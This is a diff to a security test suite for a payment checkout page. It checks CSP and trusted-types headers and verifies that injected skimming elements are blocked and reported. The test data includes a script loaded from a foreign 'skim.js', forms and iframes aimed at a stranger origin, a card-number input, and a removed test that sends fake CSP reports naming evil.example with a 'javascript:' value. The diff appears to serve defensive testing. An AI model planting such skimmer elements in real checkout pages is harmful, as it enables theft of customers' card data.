@@ -20,6 +20,8 @@ export const safety = (scene: () => Scene) =>
       expect(policy.get("frame-ancestors")).toBe("'none'")
       expect(policy.get("form-action")).toBe("'none'")
       expect(policy.get("base-uri")).toBe("'none'")
+      expect(policy.get("require-trusted-types-for")).toBe("'script'")
+      expect(policy.get("trusted-types")).toBe("'none'")
       expect(policy.get("style-src")).not.toContain("unsafe")
       expect(page.headers.get("referrer-policy")).toBe("no-referrer")
       expect(page.headers.get("cache-control")).toBe("no-store")
@@ -69,7 +71,10 @@ export const safety = (scene: () => Scene) =>
         for (const make of [
           () => Object.assign(document.createElement("script"), { src: ${JSON.stringify(`${stranger.origin}/skim.js`)} }),
           () => Object.assign(document.createElement("form"), { action: ${JSON.stringify(stranger.origin)} }),
-          () => Object.assign(document.createElement("iframe"), { src: ${JSON.stringify(stranger.origin)} })
+          () => Object.assign(document.createElement("iframe"), { src: ${JSON.stringify(stranger.origin)} }),
+          // A frame that its maker fills, and a field beside the vault's.
+          () => Object.assign(document.createElement("iframe"), { src: "about:blank", name: "false" }),
+          () => Object.assign(document.createElement("input"), { autocomplete: "cc-number" })
         ]) try { document.body.append(make()) } catch (error) { /* trusted types */ }
         try {
           const inline = document.createElement("div")
@@ -77,6 +82,7 @@ export const safety = (scene: () => Scene) =>
           document.body.append(inline)
           inline.click()
         } catch (error) { /* trusted types */ }
+        try { trustedTypes.createPolicy("skim", { createScript: (text) => text }); return "a policy" } catch { /* none may be made */ }
         return fetch(${JSON.stringify(stranger.origin)}).then(() => "sent", () => "kept")
       })()`)
       expect(sent).toBe("kept")
@@ -84,41 +90,13 @@ export const safety = (scene: () => Scene) =>
         .poll(() => payments.heard().toString("latin1"), { timeout: patience })
         .toMatch(/a checkout held what does not belong there/)
       expect(await page.evaluate("window.skimmed")).toBe(undefined)
-      await expect.poll(() => told.join(), { timeout: patience }).toContain('"element":"form"')
+      for (const found of ['"element":"form"', '"element":"input"', '"element":"iframe","origin":"none"'])
+        await expect.poll(() => told.join(), { timeout: patience }).toContain(found)
       // The page goes on: the customer pays.
       await type(page, cards.captured)
       await press(page)
       await shows(page, "paid")
       await context.close()
-    })
-
-    it("writes nothing of a report into the log but words and origins", async () => {
-      const { payments } = scene()
-      const { id, url = "" } = await payments.declare()
-      const secret = url.split("/").at(-1) ?? ""
-      const send = (body: unknown) =>
-        fetch(`${payments.origin}/checkout/reports`, { method: "POST", body: JSON.stringify(body) })
-      await send({
-        "csp-report": {
-          "document-uri": url,
-          "blocked-uri": "https://evil.example/4556737586899855?x",
-          "effective-directive": "script-src"
-        }
-      })
-      await send({ type: "tamper", element: "<b>\n4556737586899855", origin: `javascript:${secret}` })
-      await send([{ type: "csp-violation", body: { blockedURL: "inline", documentURL: url } }])
-      expect((await send("nonsense")).status).toBe(204)
-      const logged = () =>
-        payments
-          .printed()
-          .split("\n")
-          .filter((line) => line.includes("does not belong there"))
-      await expect.poll(() => logged().join("\n"), { timeout: patience }).toContain("evil.example")
-      for (const line of logged()) {
-        expect(line).not.toContain("455673")
-        expect(line).not.toContain(secret)
-        expect(line).not.toContain(id)
-      }
     })
 
     it("sends the customer nowhere but to the brand's own origins", async () => {
